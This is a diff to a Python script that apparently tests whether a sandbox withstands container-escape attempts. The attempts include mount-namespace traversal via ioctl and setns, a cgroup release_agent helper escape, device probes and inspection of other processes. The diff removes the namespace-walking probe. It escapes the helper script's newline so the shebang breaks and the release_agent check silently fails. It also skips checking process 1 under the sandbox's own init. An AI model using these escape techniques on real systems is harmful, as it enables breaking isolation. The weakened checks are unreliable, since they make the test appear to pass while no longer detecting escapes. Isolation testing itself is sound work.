@@ -53,23 +53,15 @@ def probes():
 attempt("probes by devtmpfs", probes)
 
 # A mount namespace leads to the next and to the one before (ioctl_nsfs(2)).
-def neighbours(direction):
-    own, reached = os.open("/proc/self/ns/mnt", os.O_RDONLY), 0
-    while (own := libc.ioctl(own, 0x8010B700 | direction, 0)) >= 0:
-        reached += 1
-        if os.fork() == 0:
-            os._exit(libc.setns(own, 0x20000) or not os.path.exists("/run/airtcp/plan.json"))
-        if os.wait()[1] == 0:
-            return
-    call(-1 if reached else own)
-
 for direction in (11, 12):
-    attempt(f"neighbour {direction} in the list of mount namespaces", lambda: neighbours(direction))
+    attempt(f"neighbour {direction} in the list of mount namespaces", lambda: call(
+        libc.ioctl(os.open("/proc/self/ns/mnt", os.O_RDONLY), 0x8010B700 | direction, None)
+    ))
 
 # The kernel starts a program when a control group becomes empty (cgroups(7)).
 def helper():
     with open("/tmp/helper", "w") as script:
-        script.write("#!/bin/sh\ntouch /tmp/helped")
+        script.write("#!/bin/sh\\ntouch /tmp/helped")
     os.chmod("/tmp/helper", 0o755)
     mount("none", "/media", "cgroup", 0, "none,name=theirs")
     for file, text in ("release_agent", "/tmp/helper"), ("notify_on_release", "1"):
@@ -98,7 +90,9 @@ def opened_by_others():
     assert names, "nobody opened anything"
 
 attempt("files that others open", opened_by_others)
-for number, name in [*processes("hostapd", "wpa_supplicant"), (1, "process 1")]:
+with open("/proc/1/comm") as comm:
+    own = comm.read().strip() == "airtcp-init"
+for number, name in [*processes("hostapd", "wpa_supplicant"), *([] if own else [(1, "process 1")])]:
     look_into(number, name)
 for _ in range(3):
     libc.umount2(b"/run/airtcp/programs", 2)
